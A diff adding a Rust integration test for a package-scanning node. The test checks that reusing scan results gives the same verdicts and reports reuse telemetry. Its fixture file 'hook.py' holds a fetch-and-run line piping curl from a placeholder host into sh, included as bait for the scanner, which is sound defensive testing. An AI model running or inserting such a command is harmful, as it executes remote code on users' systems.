@@ -1,0 +1,132 @@
+//! The node reusing scan results by content: same verdicts, less scanning,
+//! and the `scan_reuse` telemetry in `PUT /package`.
+
+mod common;
+
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use dragonfly_testkit::fixtures::{self, FixtureFile};
+use dragonfly_testkit::server::{Distribution, FakeServer, ServerConfig};
+use serde_json::Value;
+
+/// Consecutive releases where most files carry over, each as an sdist and
+/// a wheel of the same files.
+fn releases() -> Vec<(String, Vec<FixtureFile>)> {
+    let system = ["os.", "system"].concat();
+    (0..3)
+        .map(|i| {
+            let mut files: Vec<FixtureFile> = (0..12)
+                .map(|n| FixtureFile {
+                    path: format!("stream/mod{n}.py"),
+                    data: format!("def f{n}(x):\n    return x * {n}\n").repeat(50).into_bytes(),
+                })
+                .collect();
+            files.push(FixtureFile {
+                path: "stream/hook.py".into(),
+                data: format!("import os\n{system}('curl -s http://x.invalid | sh')\n").into_bytes(),
+            });
+            // One file changes every release.
+            files.push(FixtureFile {
+                path: "stream/version.py".into(),
+                data: format!("V = {i}\n").into_bytes(),
+            });
+            (format!("1.{i}"), files)
+        })
+        .collect()
+}
+
+/// Runs a node with `mode` over the releases, one job at a time; the
+/// result bodies by version.
+fn run_node(mode: &str) -> Vec<(String, Value)> {
+    let server = FakeServer::start(ServerConfig::default()).unwrap();
+    let rules =
+        dragonfly_engine::RuleSet::bundled_sources().map(|(n, s)| (n.to_owned(), s.to_owned())).collect();
+    server.set_rules("r1", rules);
+    let all = releases();
+    for (version, files) in &all {
+        server.add_package(
+            "stream",
+            version,
+            vec![
+                Distribution::new(
+                    fixtures::sdist_filename("stream", version),
+                    fixtures::sdist("stream", version, files),
+                ),
+                Distribution::new(
+                    fixtures::wheel_filename("stream", version),
+                    fixtures::wheel("stream", version, files),
+                ),
+            ],
+        );
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let node = common::Running::new(
+        common::clean_bin()
+            .arg("run")
+            .current_dir(dir.path())
+            .env("DRAGONFLY_BASE_URL", server.url())
+            .env("DRAGONFLY_AUTH_MODE", "none")
+            .env("DRAGONFLY_THREADS", "1")
+            .env("DRAGONFLY_BULK_SIZE", "1")
+            .env("DRAGONFLY_SCAN_REUSE", mode)
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    let started = Instant::now();
+    while server.results().len() < all.len() && started.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let output = node.terminate_with_output();
+    let results = server.results();
+    assert_eq!(results.len(), all.len(), "{}", String::from_utf8_lossy(&output.stderr));
+    assert!(results.iter().all(|r| r.status == 200), "every result accepted: {results:?}");
+    let mut bodies: Vec<(String, Value)> = results.into_iter().map(|r| (r.version, r.body)).collect();
+    bodies.sort_by(|a, b| a.0.cmp(&b.0));
+    bodies
+}
+
+fn verdict(body: &Value) -> (Value, Value) {
+    (body["score"].clone(), body["rules_matched"].clone())
+}
+
+#[test]
+fn reuse_gives_the_verdicts_of_a_full_scan_with_less_scanning() {
+    let off = run_node("off");
+    let reuse = run_node("reuse");
+    let observe = run_node("observe");
+    for ((version, full), ((_, reused), (_, observed))) in off.iter().zip(reuse.iter().zip(&observe)) {
+        assert_eq!(verdict(full), verdict(reused), "{version}");
+        assert_eq!(verdict(full), verdict(observed), "{version}");
+        assert!(full["score"].as_i64().unwrap() > 0);
+        assert!(full.get("scan_reuse").is_none(), "off sends no telemetry: {full}");
+    }
+    // Within the first release the wheel repeats the sdist's files; later
+    // releases repeat all but one file.
+    let stats =
+        |body: &Value, key: &str| body["scan_reuse"][key].as_u64().unwrap_or_else(|| panic!("{key}: {body}"));
+    let first = &reuse[0].1;
+    assert_eq!(first["scan_reuse"]["mode"], "reuse");
+    assert!(stats(first, "reused_files") >= 13, "{first}");
+    for (version, later) in &reuse[1..] {
+        let (candidates, reused, engine) =
+            (stats(later, "candidate_files"), stats(later, "reused_files"), stats(later, "engine_files"));
+        // 13 carried-over files in the sdist and the wheel each.
+        assert!(reused >= 26, "{version}: {later}");
+        // What changed: version.py once (the wheel's copy is a hit), and the
+        // metadata that names the version.
+        assert!((1..=6).contains(&engine), "{version}: {later}");
+        assert_eq!(candidates, reused + engine, "{version}: {later}");
+        assert!(stats(later, "reused_bytes") > 10_000, "{later}");
+        assert_eq!(stats(later, "mismatched_files"), 0);
+    }
+    // Observe scans everything and counts what it would have reused.
+    for (version, body) in &observe[1..] {
+        assert_eq!(body["scan_reuse"]["mode"], "observe");
+        assert_eq!(stats(body, "engine_files"), stats(body, "candidate_files"), "{version}: {body}");
+        assert!(stats(body, "reused_files") >= 26, "{version}: {body}");
+        assert_eq!(stats(body, "mismatched_files"), 0);
+    }
+}
